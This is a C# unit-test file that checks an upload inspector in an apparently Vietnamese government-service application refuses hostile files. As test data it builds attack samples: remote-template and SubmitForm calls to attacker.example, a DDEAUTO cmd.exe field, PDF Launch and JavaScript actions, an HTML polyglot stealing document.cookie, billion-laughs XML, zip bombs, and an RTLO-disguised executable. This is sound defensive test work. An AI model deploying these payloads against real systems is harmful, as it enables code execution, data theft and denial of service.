using System.Text;
using Motcua.Common;
using Motcua.Common.Documents;
using Motcua.Common.Files;
using Motcua.Common.Tabular;

namespace Motcua.UnitTests.Common;

/// <summary>
/// Uploads are judged by their whole content (ADR 0019): every hostile file here starts with the right
/// first bytes and was accepted before; each must now be refused with its own message, keyed by the field.
/// </summary>
public sealed class UploadInspectorFacts
{
    private const string VbaProject = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";

    private static DomainException Refused(string name, byte[] content, UploadRule? rule = null, string field = "file")
    {
        var refusal = Assert.Throws<DomainException>(() => UploadInspector.Inspect(name, content, rule ?? UploadRule.Documents, field));
        Assert.Equal(field, refusal.Field);
        return refusal;
    }

    [Fact]
    public void Real_files_of_each_accepted_kind_pass_with_their_content_type()
    {
        Assert.Equal("application/pdf", UploadInspector.Inspect("bien-ban.pdf", SampleFiles.Pdf(), UploadRule.Documents).ContentType);
        Assert.Equal("image/png", UploadInspector.Inspect("anh.PNG", SampleFiles.Png(), UploadRule.Documents).ContentType);
        Assert.Equal("image/jpeg", UploadInspector.Inspect("anh.jpg", SampleFiles.Jpeg(), UploadRule.Documents).ContentType);
        Assert.Equal(UploadKind.Docx, UploadInspector.Inspect("to-khai.docx", SampleFiles.Docx(), UploadRule.Documents).Kind);
        Assert.Equal(UploadKind.Xlsx, UploadInspector.Inspect("so-lieu.xlsx", TabularWriter.Xlsx(["unit", "value"], [["21550", "3"]]), UploadRule.Documents).Kind);
        Assert.Equal(UploadKind.Text, UploadInspector.Inspect("ke-hoach.txt", "Kế hoạch số 41"u8.ToArray(), UploadRule.PlanSources).Kind);
    }

    [Fact]
    public void The_applications_own_pdf_and_docx_documents_pass()
    {
        var document = Motcua.UnitTests.Documents.SampleDocuments.Receipt(rows: 3);
        Assert.Equal(UploadKind.Pdf, UploadInspector.Inspect("bb.pdf", PdfRenderer.Render(document), UploadRule.Documents).Kind);
        Assert.Equal(UploadKind.Docx, UploadInspector.Inspect("bb.docx", DocxRenderer.Render(document), UploadRule.Documents).Kind);
    }

    [Fact]
    public void A_docx_with_a_vba_project_is_refused()
    {
        var docx = SampleFiles.Docx((package, main) =>
            SampleFiles.AddPart(package, main, "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject", VbaProject, [0xCC, 0x61, 0xFF, 0xFF]));
        Assert.Contains("macros", Refused("to-khai.docx", docx).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_vba_project_under_an_innocent_content_type_is_still_refused()
    {
        var docx = SampleFiles.Docx((package, main) =>
            SampleFiles.AddPart(package, main, "/word/media/vbaProject.bin", "image/png", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", [1, 2, 3]));
        Assert.Contains("vbaProject.bin", Refused("to-khai.docx", docx).Arguments[0].ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void A_macro_enabled_document_renamed_docx_is_refused()
    {
        var docm = SampleFiles.Docx(mainType: "application/vnd.ms-word.document.macroEnabled.main+xml");
        Assert.Contains("macros", Refused("to-khai.docx", docm).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void An_embedded_ole_object_or_program_is_refused_but_an_embedded_workbook_is_checked_and_kept()
    {
        var ole = SampleFiles.Docx((package, main) => SampleFiles.AddPart(
            package, main, "/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package", [0xD0, 0xCF, 0x11, 0xE0]));
        Refused("to-khai.docx", ole);
        var program = SampleFiles.Docx((package, main) => SampleFiles.AddPart(
            package, main, "/word/embeddings/setup.exe", "application/octet-stream",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package", "MZ\u0090"u8.ToArray()));
        Refused("to-khai.docx", program);

        var workbook = TabularWriter.Xlsx(["a"], [["1"]]);
        var chart = SampleFiles.Docx((package, main) => SampleFiles.AddPart(
            package, main, "/word/embeddings/Microsoft_Excel_Worksheet.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package", workbook));
        Assert.Equal(UploadKind.Docx, UploadInspector.Inspect("bieu-do.docx", chart, UploadRule.Documents).Kind);
    }

    [Fact]
    public void A_remote_template_and_a_dde_field_are_refused()
    {
        var template = SampleFiles.Docx((package, main) => main.CreateRelationship(
            new Uri("http://attacker.example/t.dotm"), System.IO.Packaging.TargetMode.External,
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"));
        Refused("to-khai.docx", template);
        var dde = SampleFiles.Docx(body: "x</w:t></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r><w:r><w:t>y");
        Assert.Contains("DDE", Refused("to-khai.docx", dde).Arguments[0].ToString(), StringComparison.Ordinal);
        var link = SampleFiles.Docx((package, main) => main.CreateRelationship(
            new Uri("https://dichvucong.gov.vn/"), System.IO.Packaging.TargetMode.External,
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"));
        Assert.Equal(UploadKind.Docx, UploadInspector.Inspect("co-lien-ket.docx", link, UploadRule.Documents).Kind);
    }

    [Fact]
    public void A_zip_bomb_is_refused_after_expanding_a_bounded_amount()
    {
        var bomb = SampleFiles.ZipBomb();
        Assert.True(bomb.Length < 1024 * 1024, $"{bomb.Length} bytes");
        Assert.Contains("zip bomb", Refused("to-khai.docx", bomb).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_bomb_whose_headers_claim_a_tiny_size_is_refused_all_the_same()
    {
        var lying = SampleFiles.WithLyingSize(SampleFiles.ZipBomb(), "word/media/filler.xml", 1024);
        Refused("to-khai.docx", lying);
    }

    [Fact]
    public void A_package_whose_size_header_lies_is_refused_as_damaged()
    {
        var lying = SampleFiles.WithLyingSize(SampleFiles.Docx(), "word/document.xml", 12);
        Assert.Contains("not a valid document package", Refused("to-khai.docx", lying).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void An_xml_part_with_a_document_type_is_refused_without_expanding_its_entities()
    {
        const string Laughs = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>";
        var docx = SampleFiles.Docx((package, main) => SampleFiles.AddPart(
            package, main, "/customXml/item1.xml", "application/xml", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXml", Encoding.UTF8.GetBytes(Laughs)));
        Assert.Contains("not a valid document package", Refused("to-khai.docx", docx).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_zip_that_is_not_an_office_document_is_refused()
    {
        using var stream = new MemoryStream();
        using (var archive = new System.IO.Compression.ZipArchive(stream, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = new StreamWriter(archive.CreateEntry("readme.txt").Open());
            entry.Write("hello");
        }

        Refused("so-lieu.xlsx", stream.ToArray());
        Refused("so-lieu.xlsx", SampleFiles.Docx());
        Refused("so-lieu.xlsx", [0x50, 0x4B, 0x03, 0x04, 1, 2, 3]);
    }

    [Fact]
    public void A_pdf_that_runs_javascript_when_opened_is_refused()
    {
        var pdf = SampleFiles.Pdf("/OpenAction 5 0 R", "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>");
        Assert.Contains(Refused("bien-ban.pdf", pdf).Arguments[0], new object[] { "/JS", "/JavaScript" });
    }

    [Fact]
    public void A_script_hidden_behind_an_escaped_name_is_found()
    {
        var pdf = SampleFiles.Pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>");
        Refused("bien-ban.pdf", pdf);
    }

    [Theory]
    [InlineData("/OpenAction << /S /Launch /F (cmd.exe) >>")]
    [InlineData("/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>")]
    [InlineData("/AcroForm << /Fields [] /XFA 5 0 R >>")]
    [InlineData("/OpenAction << /S /SubmitForm /F (https://attacker.example/) >>")]
    public void Pdf_actions_that_launch_submit_or_run_forms_are_refused(string catalogue) =>
        Refused("bien-ban.pdf", SampleFiles.Pdf(catalogue, "<< /Length 0 >>\nstream\n\nendstream"));

    [Fact]
    public void A_pdf_with_an_embedded_html_file_is_refused()
    {
        const string Page = "<p>Xin chao</p>";
        var pdf = SampleFiles.Pdf(
            "/Names << /EmbeddedFiles << /Names [(trang.htm) 5 0 R] >> >>",
            "<< /Type /Filespec /F (trang.htm) /EF << /F 6 0 R >> >>",
            $"<< /Type /EmbeddedFile /Subtype /text#2Fhtml /Length {Page.Length} >>\nstream\n{Page}\nendstream");
        Assert.Contains("embedded file", Refused("bien-ban.pdf", pdf).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_pdf_glued_to_a_web_page_is_refused()
    {
        var polyglot = SampleFiles.Pdf().Concat(Encoding.ASCII.GetBytes("\n<HTML><Script>alert(document.cookie)</script>")).ToArray();
        Assert.Contains("web page", Refused("bien-ban.pdf", polyglot).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_truncated_or_fake_pdf_is_refused()
    {
        var pdf = SampleFiles.Pdf();
        Assert.Contains("cannot be read", Refused("bien-ban.pdf", pdf[..(pdf.Length / 2)]).Message, StringComparison.Ordinal);
        Refused("bien-ban.pdf", [.. "%PDF-1.7\n"u8.ToArray(), .. new byte[2000]]);
        Refused("bien-ban.pdf", Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"));
    }

    [Fact]
    public void An_image_that_does_not_decode_is_refused()
    {
        byte[] garbage = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 1, 2, 3, 4, 5, 6, 7, 8];
        Assert.Contains("cannot be decoded", Refused("anh.png", garbage).Message, StringComparison.Ordinal);
        var png = SampleFiles.Png(64, 64);
        Refused("anh.png", png[..(png.Length - 30)]);
        Refused("anh.png", SampleFiles.Jpeg());
        Refused("anh.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10]);
    }

    [Fact]
    public void An_image_too_large_to_decode_safely_is_refused_before_decoding()
    {
        // 20000 x 20000 pixels: 1.6 GB once decoded, a few hundred bytes as PNG header.
        var png = SampleFiles.Png();
        var huge = (byte[])png.Clone();
        huge[16] = 0; huge[17] = 0; huge[18] = 0x4E; huge[19] = 0x20;
        huge[20] = 0; huge[21] = 0; huge[22] = 0x4E; huge[23] = 0x20;
        var crc = Crc32(huge.AsSpan(12, 17));
        huge[29] = (byte)(crc >> 24); huge[30] = (byte)(crc >> 16); huge[31] = (byte)(crc >> 8); huge[32] = (byte)crc;
        Refused("anh.png", huge);
    }

    [Fact]
    public void A_right_to_left_override_cannot_disguise_an_executable()
    {
        // Shown as "hoa-donexe.png" by a browser that honours U+202E; the real extension is .exe.
        Refused("hoa-don\u202Egnp.exe", "MZ\u0090"u8.ToArray());
        var accepted = UploadInspector.Inspect("anh\u202Egnp\u0007\u200B.png", SampleFiles.Png(), UploadRule.Documents);
        Assert.Equal("anhgnp.png", accepted.FileName);
    }

    [Theory]
    [InlineData("C:\\Users\\a\\bien-ban.pdf", "bien-ban.pdf")]
    [InlineData("../../etc/bien-ban.pdf", "bien-ban.pdf")]
    [InlineData("\u202Ebien\u2066-ban\u2069\u200E.pdf", "bien-ban.pdf")]
    [InlineData("bie\u0302\u0301n ba\u0309n.pdf", "biến bản.pdf")]
    [InlineData("tab\tnew\r\nline.pdf", "tabnewline.pdf")]
    [InlineData("\u0000", "file")]
    [InlineData("..", "file")]
    public void File_names_lose_paths_controls_and_bidirectional_marks(string name, string expected) =>
        Assert.Equal(expected, UploadInspector.CleanFileName(name));

    [Fact]
    public void A_long_file_name_keeps_its_extension()
    {
        var name = UploadInspector.CleanFileName(new string('a', 400) + ".pdf");
        Assert.Equal(255, name.Length);
        Assert.EndsWith(".pdf", name, StringComparison.Ordinal);
    }

    [Fact]
    public void Each_upload_point_keeps_its_own_types_and_field()
    {
        Refused("ke-hoach.xlsx", TabularWriter.Xlsx(["a"], [["1"]]), UploadRule.PlanSources);
        Refused("ke-hoach.txt", [0x41, 0x00, 0x42], UploadRule.PlanSources);
        Refused("ke-hoach.txt", [0xC3, 0x28], UploadRule.PlanSources);
        Refused("ghi-chu.txt", "text"u8.ToArray(), UploadRule.Documents);
        Refused("script.html", "<html>"u8.ToArray(), UploadRule.Documents, "evidence");
    }

    [Fact]
    public void A_forged_imported_workbook_is_refused_before_it_is_read()
    {
        var workbook = SampleFiles.WithLyingSize(TabularWriter.Xlsx(["unit"], [["21550"]]), "xl/workbook.xml", 10);
        using var stream = new MemoryStream(workbook);
        Assert.Equal("file", Assert.Throws<DomainException>(() => TabularFile.Read(stream, "units.xlsx")).Field);
    }

    private static uint Crc32(ReadOnlySpan<byte> bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }

        return ~crc;
    }
}
